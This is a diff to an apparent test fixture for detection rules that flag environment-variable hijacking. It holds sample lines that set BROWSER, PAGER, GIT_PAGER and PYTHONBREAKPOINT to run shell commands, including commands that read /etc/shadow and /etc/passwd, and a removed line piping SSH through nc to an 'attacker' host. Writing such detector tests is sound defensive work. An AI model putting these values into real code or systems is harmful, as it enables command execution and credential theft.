@@ -93,12 +93,16 @@ setup(name="plain", version="1.0", packages=["plain"])
 
 # ruleid: AIR-PERS-014
 os.environ["BROWSER"] = "/bin/sh -c 'id' #%s"
+# ruleid: AIR-PERS-015
+# ok: AIR-PERS-014
+os.putenv("GIT_SSH_COMMAND", "ssh -o ProxyCommand='nc -X 5 -x proxy:1080 %h %p' host")
 # ruleid: AIR-PERS-014
-os.putenv("GIT_SSH_COMMAND", "ssh -o ProxyCommand='nc attacker 9' host")
+os.environ["PAGER"] = "sh -c 'cat /etc/shadow'"
 hook_target = "os.system"
 # ruleid: AIR-PERS-014
 os.environ["PYTHONBREAKPOINT"] = hook_target
 # ok: AIR-PERS-014
+# ok: AIR-PERS-015
 os.environ["GIT_PAGER"] = "cat"
 # ok: AIR-PERS-014
 os.environ["GIT_SSH_COMMAND"] = "ssh -o BatchMode=yes"
@@ -133,3 +137,9 @@ save_notes(Path("~/notes.txt"), "remember the milk\n")
 startup_dir = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
 # ok: AIR-PERS-003
 menu_dir = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs")
+# ruleid: AIR-PERS-014
+os.environ.update({"BROWSER": "/bin/sh -c 'id' #%s"})
+# ruleid: AIR-PERS-014
+subprocess.run(["git", "log"], env={**os.environ, "GIT_PAGER": "sh -c 'cat /etc/passwd'"})
+# ok: AIR-PERS-014
+subprocess.run(["git", "log"], env={**os.environ, "GIT_PAGER": "cat"})
